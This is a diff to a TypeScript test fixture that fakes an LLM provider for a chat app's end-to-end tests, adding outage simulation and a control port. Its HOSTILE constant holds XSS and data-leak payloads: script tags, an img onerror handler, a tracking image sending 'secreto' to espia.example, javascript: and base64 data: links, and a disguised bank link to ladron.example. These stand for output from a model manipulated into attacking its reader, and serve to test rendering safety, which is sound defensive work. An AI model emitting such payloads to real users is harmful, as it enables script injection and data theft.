@@ -6,11 +6,14 @@
  *     el proveedor falla   503 before the first token
  *     se corta             the connection dies after a few words
  *     tabla                Markdown with a table, a list and code
+ *     texto hostil         what a model says that was talked into attacking its reader
  *     anything else        two sentences that quote the question
+ *
+ * The stories ask it on a port of its own what it was asked, and switch it off and on (provider.ts).
  */
 import { startProvider } from "../providers/mod.ts";
 import type { Behaviour } from "../providers/mod.ts";
-import { PORT_BASE, STATE_DIRECTORY, WEB_PORT } from "./addresses.ts";
+import { PORT_BASE, PROVIDER_PORT, STATE_DIRECTORY, WEB_PORT } from "./addresses.ts";
 
 const TABLE = `Así quedó tu semana:
 
@@ -27,6 +30,27 @@ select dia, sum(total) from ventas group by dia;
 \`\`\`
 `;
 
+const HOSTILE = `<script>document.title = "robado"</script>
+
+<img src="https://espia.example/pixel.gif" onerror="document.title = 'robado'">
+
+![factura](https://espia.example/espia.png?nota=secreto)
+
+<iframe src="https://espia.example/marco"></iframe>
+
+<style>body { display: none }</style>
+
+[Abre tu regalo](javascript:document.title='robado')
+
+[Otro regalo](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
+
+[Entra a www.mibanco.com](https://ladron.example/entrar)
+
+[La guía completa](https://guia.example/precios)
+
+\`<b onclick=alert(1)>código</b>\` y fin.
+`;
+
 interface Message {
   role: string;
   content: unknown;
@@ -38,7 +62,10 @@ function question(messages: Message[]): string {
   return typeof last === "string" ? last : JSON.stringify(last ?? "");
 }
 
+let isDown = false;
+
 function answer(messages: Message[]): Behaviour {
+  if (isDown) return { status: 503 };
   const asked = question(messages);
   // The worker asks for a conversation's title.
   if (asked.startsWith("<conversacion>")) return { text: "Ventas de la semana" };
@@ -51,11 +78,29 @@ function answer(messages: Message[]): Behaviour {
   if (/se corta/i.test(asked)) {
     return { text: "Te cuento con calma cómo van las ventas de esta semana.", dieAfterDeltas: 4 };
   }
+  if (/texto hostil/i.test(asked)) return { text: HOSTILE, gapMs: 1 };
   if (/tabla/i.test(asked)) return { text: TABLE, gapMs: 2 };
   return { text: `Entendido. Me preguntas: «${asked.trim().slice(-120)}». Empecemos por lo que más vende.`, gapMs: 5 };
 }
 
 const openai = await startProvider({ kind: "openai", behaviours: ({ body }) => answer(body?.messages ?? []) });
+
+/** The requests for an answer about something. */
+function requestsAbout(words: string): Message[][] {
+  return openai.requests
+    .map(({ body }) => ((body as { messages?: Message[] } | null)?.messages) ?? [])
+    .filter((messages) => question(messages).includes(words) && !question(messages).startsWith("<conversacion>"));
+}
+
+const door = Deno.serve({ hostname: "127.0.0.1", port: PROVIDER_PORT, onListen: () => {} }, (request) => {
+  const { pathname, searchParams } = new URL(request.url);
+  if (pathname === "/requests") return Response.json(requestsAbout(searchParams.get("about") ?? ""));
+  if (pathname === "/down") {
+    isDown = request.method === "PUT";
+    return Response.json({ isDown });
+  }
+  return new Response(null, { status: 404 });
+});
 
 const environment = Object.fromEntries(
   Object.entries(Deno.env.toObject()).filter(([name]) => !/^(OPENAI|ANTHROPIC|HUGGINGFACE|COMPATIBLE)_/.test(name)),
@@ -77,5 +122,6 @@ for (const signal of ["SIGINT", "SIGTERM", "SIGHUP"] as const) {
   Deno.addSignalListener(signal, () => child.kill(signal));
 }
 const { code } = await child.status;
+await door.shutdown();
 await openai.close();
 Deno.exit(code);
